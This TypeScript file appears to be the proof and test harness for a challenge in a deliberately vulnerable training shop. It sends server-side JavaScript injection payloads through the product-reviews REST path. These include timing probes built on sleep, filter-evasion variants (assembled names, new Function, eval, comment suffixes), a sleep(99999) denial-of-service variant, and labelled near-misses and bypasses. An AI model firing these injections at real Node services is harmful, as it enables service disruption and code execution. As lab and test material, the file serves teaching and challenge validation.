import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const reviewsOf = (id: string) => (attacker: Attacker) =>
  attacker.get(`/rest/products/${encodeURIComponent(id)}/reviews`)

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // A calculated product number shows that the server evaluates the path.
    await reviewsOf('1')(attacker)
    await reviewsOf('1+1')(attacker)
    await attacker.get('/rest/products/sleep(2000)/reviews')
  },
  spellings: {
    'longer than it may': reviewsOf('sleep(99999)'),
    'a second for each review': reviewsOf('sleep(1000)'),
    'for the reviews of other products': reviewsOf('1||sleep(2000)'),
    'for the reviews of one product, once': reviewsOf('1&&sleep(2000)'),
    'in brackets, with the right answer': reviewsOf('(sleep(2000),1)'),
    'with a sign': reviewsOf('-sleep(2e3)'),
    'as a text': reviewsOf("sleep('2000')"),
    'by the global object': reviewsOf('globalThis.sleep(2000)'),
    'by a name put together': reviewsOf("globalThis['sle'+'ep'](2000)"),
    'in a function': reviewsOf('(()=>sleep(2000))()'),
    'in a function made of a text': reviewsOf("new Function('sleep(2000)')()"),
    'with a comment behind it': reviewsOf('sleep(2000)//'),
    'many short ones': reviewsOf('eval("sleep(99);".repeat(25))'),
  },
  nearMisses: {
    'the reviews of a product': reviewsOf('1'),
    'a sum': reviewsOf('1+1'),
    'all reviews': reviewsOf('1||true'),
    'a short nap': reviewsOf('1&&sleep(500)'),
    'a nap of no time': reviewsOf('sleep(0)'),
    'sleep that nobody calls': reviewsOf('sleep'),
    'sleep behind the end': reviewsOf('1;sleep(2000)'),
    'sleep in a comment': reviewsOf('1/*sleep(2000)*/'),
    'sleep that is never reached': reviewsOf('0&&sleep(2000)'),
    'an expression that is none': reviewsOf('sleep(2000'),
    'the attack cut off, since only so many signs of an id are read': reviewsOf(`1${' '.repeat(39)}||sleep(2000)`),
    'sleep where orders are tracked': (attacker) =>
      attacker.get(`/rest/track-order/${encodeURIComponent("'||sleep(2000)||'")}`),
  },
  bypasses: {
    'refuse-sleep': reviewsOf("globalThis['sle'+'ep'](2000)"),
    'put-it-between-quotes': reviewsOf("'||sleep(2000)||'"),
  },
})
